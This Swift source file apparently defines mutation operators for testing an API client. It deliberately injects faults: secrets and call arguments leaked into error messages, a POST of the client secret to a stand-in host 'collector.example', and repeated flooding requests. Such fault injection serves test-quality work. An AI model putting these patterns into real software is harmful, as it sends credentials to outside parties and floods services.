package import AuthProviding
import HTTPTypes
import SpecModel
import Synchronization

// Secrets where others can read them, and requests that never end.
extension MutationOperator {
  /// Writes the client's secret, the arguments of the call and the last answer into the message of each failure.
  package static let tellingFailures = MutationOperator { world, launch in
    let last = Mutex("")
    let heard = world.intercepted { intercepted in
      intercepted.onSend = { (request, world) async throws(NetworkFailure) in
        let response = try await world.network.send(request)
        last.withLock { $0 = response.text }
        return response
      }
    }
    let client = try await launch(heard)
    var telling = client
    telling.perform = { call, completion in
      await client.perform(
        call,
        Completion { ending in
          let told = " " + [call.dump(in: world), last.withLock { $0 }].joined(separator: " ")
          completion(ending.changingFailure { $0.message += told })
        })
    }
    return telling
  }

  /// Sends the client's secret and the arguments of each call to the address of another service.
  package static let reportedElsewhere = MutationOperator.calls { world in
    { call, completion, client in
      let report = Request(.post, "https://collector.example/calls", body: Array(call.dump(in: world).utf8))
      _ = try? await world.network.send(report)
      await client.perform(call, completion)
    }
  }

  /// Sends a request this many times in each call.
  package static func flooded(_ times: Int, to endpoint: String) -> MutationOperator {
    .calls { world in
      { call, completion, client in
        for _ in 0..<times { _ = try? await world.network.send(Request(.get, world.endpoints[endpoint])) }
        await client.perform(call, completion)
      }
    }
  }
}

extension Call {
  /// The client's secret and the arguments, as a careless log would hold them.
  package func dump(in world: World) -> String {
    let secret = world.app["clientSecret"] ?? ""
    return "secret=\(secret) arguments=" + String(decoding: Value.map(arguments).jsonBytes, as: UTF8.self)
  }
}
